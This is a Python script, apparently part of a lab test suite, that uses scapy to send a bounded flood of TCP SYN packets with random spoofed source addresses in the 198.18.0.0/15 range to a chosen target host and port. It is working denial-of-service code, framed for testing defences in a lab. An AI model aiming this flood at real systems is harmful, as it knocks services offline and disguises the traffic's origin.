#!/usr/bin/python3
"""tests/lab/synflood.py — a bounded spoofed TCP SYN flood for the lab.

    synflood.py IFACE DST_MAC DST_IP DST_PORT RATE SECONDS

Sends RATE SYNs per second for SECONDS seconds out of IFACE (raw frames,
scapy), each from a random source address in 198.18.0.0/15 outside the lab
hosts' 198.18.0.0/24, a random port and a random sequence number, to
DST_IP:DST_PORT (Ethernet destination DST_MAC). Prints "flooding" when the
first frame goes, then stops by itself and prints how many it sent. The frames are built before the clock starts, so
the rate holds as far as the interface takes them.
"""

import random
import sys
import time

from scapy.all import IP, TCP, Ether, conf


def spoofed_source():
    """A random address in 198.18.0.0/15 that is not in the lab's /24."""
    while True:
        third = random.randrange(512)
        if third != 0:
            return f"{198}.{18 + third // 256}.{third % 256}.{random.randrange(1, 255)}"


def main():
    iface, dst_mac, dst_ip, dst_port, rate, seconds = sys.argv[1:7]
    dst_port, rate, seconds = int(dst_port), int(rate), float(seconds)
    count = int(rate * seconds)
    frames = [
        bytes(
            Ether(src="02:00:00:00:00:66", dst=dst_mac)
            / IP(src=spoofed_source(), dst=dst_ip)
            / TCP(
                sport=random.randrange(1024, 65536),
                dport=dst_port,
                flags="S",
                seq=random.randrange(1 << 32),
                window=64240,
                options=[("MSS", 1460)],
            )
        )
        for _ in range(count)
    ]
    sock = conf.L2socket(iface=iface)
    print("flooding", flush=True)
    start = time.monotonic()
    for index, frame in enumerate(frames):
        due = start + index / rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        sock.send(frame)
    sock.close()
    print(f"sent {count} SYNs in {time.monotonic() - start:.2f} s", flush=True)


if __name__ == "__main__":
    main()
